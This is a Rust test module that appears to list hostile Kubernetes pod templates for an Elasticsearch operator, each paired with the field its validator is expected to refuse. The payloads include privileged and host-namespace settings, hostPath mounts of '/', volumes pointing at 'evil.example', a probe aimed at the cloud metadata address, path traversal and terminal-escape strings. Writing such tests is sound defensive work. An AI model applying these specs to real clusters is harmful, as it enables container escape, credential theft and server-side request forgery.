//! Hostile pod templates.

use serde_json::{Value, json};

use super::{Attack, On, attack, merged};

pub fn attacks() -> Vec<Attack> {
    let mut all = Vec::new();
    variables(&mut all);
    pods(&mut all);
    volumes(&mut all);
    all
}

pub fn template(template: Value) -> Value {
    json!({"nodes": {"data": {"podTemplate": template}}})
}

pub fn node(fields: Value) -> Value {
    template(json!({"spec": {"containers": [merged(json!({"name": "elasticsearch"}), &fields)]}}))
}

pub fn sidecar(fields: Value) -> Value {
    template(json!({"spec": {"containers": [merged(json!({"name": "other", "image": "x"}), &fields)]}}))
}

fn variables(all: &mut Vec<Attack>) {
    for name in [
        "ES_JAVA_OPTS",
        "ES_PATH_CONF",
        "ES_CLASSPATH",
        "ES_KEYSTORE_PASSPHRASE_FILE",
        "ES_SETTING_XPACK_SECURITY_ENABLED",
        "xpack.security.enabled",
        "cluster.initial_master_nodes",
        "JAVA_TOOL_OPTIONS",
        "_JAVA_OPTIONS",
        "LD_PRELOAD",
        "LD_AUDIT",
        "BASH_ENV",
        "BASH_FUNC_cp%%",
        "PATH",
        "POD_IP",
        "ELASTIC_PASSWORD_FILE",
    ] {
        let spec = node(json!({"env": [{"name": name, "value": "x"}]}));
        all.push(attack(On::Cell, &format!("variable {name}"), spec, "elasticsearch].env["));
    }
    let spec = node(json!({"envFrom": [{"secretRef": {"name": "x"}}]}));
    all.push(attack(On::Cell, "variables by the dozen", spec, "elasticsearch].envFrom"));
}

fn pods(all: &mut Vec<Attack>) {
    for (name, spec, refused) in [
        ("host network", json!({"hostNetwork": true}), "spec.hostNetwork"),
        ("host processes", json!({"hostPID": true}), "spec.hostPID"),
        ("host IPC", json!({"hostIPC": true}), "spec.hostIPC"),
        ("host users", json!({"hostUsers": true}), "spec.hostUsers"),
        ("a chosen Kubernetes node", json!({"nodeName": "control-plane"}), "spec.nodeName"),
        ("a token", json!({"automountServiceAccountToken": true}), "automountServiceAccountToken"),
        ("shared processes", json!({"shareProcessNamespace": true}), "shareProcessNamespace"),
        (
            "an ephemeral container",
            json!({"ephemeralContainers": [{"name": "x", "image": "x"}]}),
            "ephemeralContainers",
        ),
        ("another host name", json!({"hostname": "x", "subdomain": "y"}), "spec.hostname"),
        ("root", json!({"securityContext": {"runAsUser": 0}}), "securityContext.runAsUser"),
        ("root by name", json!({"securityContext": {"runAsNonRoot": false}}), "securityContext.runAsNonRoot"),
        ("sysctls", json!({"securityContext": {"sysctls": [{"name": "kernel.x", "value": "1"}]}}), "sysctls"),
        (
            "no seccomp",
            json!({"securityContext": {"seccompProfile": {"type": "Unconfined"}}}),
            "seccompProfile",
        ),
        (
            "a type of the host",
            json!({"securityContext": {"seLinuxOptions": {"type": "spc_t"}}}),
            "seLinuxOptions",
        ),
        (
            "a directive of patches",
            json!({"containers": [{"name": "elasticsearch", "$patch": "delete"}]}),
            "$patch",
        ),
        ("nothing in place of something", json!({"securityContext": null}), "null"),
        ("another zone", json!({"nodeSelector": {"topology.kubernetes.io/zone": "x"}}), "nodeSelector"),
        ("a short grace", json!({"terminationGracePeriodSeconds": 0}), "terminationGracePeriodSeconds"),
        (
            "our init container",
            json!({"initContainers": [{"name": "configure", "image": "x", "command": ["sh"]}]}),
            "initContainers[configure]",
        ),
    ] {
        all.push(attack(On::Cell, &format!("pod with {name}"), template(json!({"spec": spec})), refused));
    }
    let odd = "a\n\u{202e}\u{1b}[2J";
    for (name, spec) in [
        ("a field that draws on the terminal", json!({odd: 1})),
        (
            "a volume that draws on the terminal",
            json!({"volumes": [{"name": odd, "hostPath": {"path": "/"}}]}),
        ),
        (
            "a container that draws on the terminal",
            json!({"containers": [{"name": odd, "image": "x", odd: 1}]}),
        ),
        (
            "a variable that draws on the terminal",
            json!({"containers": [{"name": "elasticsearch", "env": [{"name": format!("ES_{odd}"), "value": "x"}]}]}),
        ),
        (
            "a mount that draws on the terminal",
            json!({"containers": [{"name": "elasticsearch", "volumeMounts": [{"name": "x", "mountPath": format!("/tmp/../{odd}")}]}]}),
        ),
    ] {
        all.push(attack(On::Cell, &format!("pod with {name}"), template(json!({"spec": spec})), "\\u{202e}"));
    }
    for (name, fields, refused) in [
        ("another command", json!({"command": ["sh", "-c", "id"]}), "command"),
        ("other arguments", json!({"args": ["-E", "xpack.security.enabled=false"]}), "args"),
        ("another image", json!({"image": "evil"}), "spec.image"),
        ("privileges", json!({"securityContext": {"privileged": true}}), "privileged"),
        (
            "escalation",
            json!({"securityContext": {"allowPrivilegeEscalation": true}}),
            "allowPrivilegeEscalation",
        ),
        (
            "a capability",
            json!({"securityContext": {"capabilities": {"add": ["NET_ADMIN"]}}}),
            "capabilities",
        ),
        ("capabilities kept", json!({"securityContext": {"capabilities": {"drop": []}}}), "capabilities"),
        ("an unmasked proc", json!({"securityContext": {"procMount": "Unmasked"}}), "procMount"),
        ("a probe of its own", json!({"livenessProbe": {"exec": {"command": ["false"]}}}), "livenessProbe"),
        (
            "a kubelet as its messenger",
            json!({"lifecycle": {"preStop": {"httpGet": {"host": "169.254.169.254", "port": 80}}}}),
            "lifecycle.preStop.httpGet.host",
        ),
    ] {
        all.push(attack(On::Cell, &format!("node with {name}"), node(fields), refused));
    }
    for (name, fields, refused) in [
        ("privileges", json!({"securityContext": {"privileged": true}}), "privileged"),
        ("a port of the host", json!({"ports": [{"containerPort": 1, "hostPort": 22}]}), "hostPort"),
        ("Elasticsearch's port", json!({"ports": [{"containerPort": 9200}]}), "containerPort"),
        (
            "a kubelet as its messenger",
            json!({"livenessProbe": {"tcpSocket": {"host": "10.96.0.1", "port": 443}}}),
            "livenessProbe.tcpSocket.host",
        ),
        // Says nothing about its confinement: it gets the same as the operator's own.
        ("nothing about its confinement", json!({}), ""),
        ("a command of its own", json!({"command": ["sh", "-c", "sleep 1000"]}), ""),
    ] {
        all.push(attack(On::Cell, &format!("sidecar with {name}"), sidecar(fields), refused));
    }
    for (name, key) in [
        ("our label", "labels/searchcell.dev~1cluster"),
        ("a router's label", "labels/searchcell.dev~1router"),
        ("our configuration", "annotations/searchcell.dev~1elasticsearch.yml"),
        ("no AppArmor", "annotations/container.apparmor.security.beta.kubernetes.io~1elasticsearch"),
    ] {
        let (list, key) = key.split_once('/').unwrap();
        let spec = template(json!({"metadata": {list: {key.replace("~1", "/"): "unconfined"}}}));
        all.push(attack(On::Cell, &format!("pod with {name}"), spec, &format!("metadata.{list}[")));
    }
}

fn volumes(all: &mut Vec<Attack>) {
    let volume =
        |source: Value| template(json!({"spec": {"volumes": [merged(json!({"name": "x"}), &source)]}}));
    for (name, source, refused) in [
        ("host path", json!({"hostPath": {"path": "/"}}), "volumes[x].hostPath"),
        ("NFS", json!({"nfs": {"server": "evil.example", "path": "/"}}), "volumes[x].nfs"),
        ("iSCSI", json!({"iscsi": {"targetPortal": "x", "iqn": "x", "lun": 0}}), "volumes[x].iscsi"),
        ("git", json!({"gitRepo": {"repository": "https://evil.example/x"}}), "volumes[x].gitRepo"),
        (
            "a node's claim",
            json!({"persistentVolumeClaim": {"claimName": "data-other-a-data-a-0"}}),
            "claimName",
        ),
        (
            "a projected token",
            json!({"projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}),
            "serviceAccountToken",
        ),
        ("our name", json!({"name": "config", "emptyDir": {}}), "volumes[config]"),
    ] {
        all.push(attack(On::Cell, &format!("volume of {name}"), volume(source), refused));
    }
    let mount = |name: &str, path: &str| json!({"volumeMounts": [{"name": name, "mountPath": path}]});
    for path in [
        "/usr/share/elasticsearch/config",
        "/usr/share/elasticsearch/config/users",
        "/usr/share/elasticsearch/config/roles.yml",
        "/usr/share/elasticsearch/config/service_tokens",
        "/usr/share/elasticsearch/config/certificates",
        "/usr/share/elasticsearch/config/log4j2.properties",
        "/usr/share/elasticsearch/config/jvm.options.d/x.options",
        "/usr/share/elasticsearch/config/./analysis/../users",
        "/usr/share/elasticsearch",
        "/usr/share/elasticsearch/bin",
        "/usr/share/elasticsearch/lib/x.jar",
        "/usr",
        "/",
        "relative",
    ] {
        all.push(attack(On::Cell, &format!("mount over {path}"), node(mount("x", path)), "volumeMounts["));
    }
    for name in ["data", "config", "settings", "tmp"] {
        all.push(attack(
            On::Cell,
            &format!("sidecar with our {name}"),
            sidecar(mount(name, "/x")),
            "volumeMounts[",
        ));
        let init =
            json!({"name": "other", "image": "x", "volumeMounts": [{"name": name, "mountPath": "/x"}]});
        let spec = template(json!({"spec": {"initContainers": [init]}}));
        all.push(attack(On::Cell, &format!("init container with our {name}"), spec, "volumeMounts["));
    }
    for (name, field, value) in [
        ("a path out of its volume", "subPath", "../x"),
        ("an expression out of its volume", "subPathExpr", "$(POD_NAME)/../../x"),
        ("an absolute path in its volume", "subPath", "/x"),
        ("propagation", "mountPropagation", "Bidirectional"),
    ] {
        let mount = json!({"volumeMounts": [{"name": "x", "mountPath": "/x", field: value}]});
        all.push(attack(On::Cell, &format!("mount with {name}"), sidecar(mount), field));
    }
    let device = json!({"volumeDevices": [{"name": "data", "devicePath": "/dev/x"}]});
    all.push(attack(On::Cell, "sidecar with our device", sidecar(device), "volumeDevices["));
}
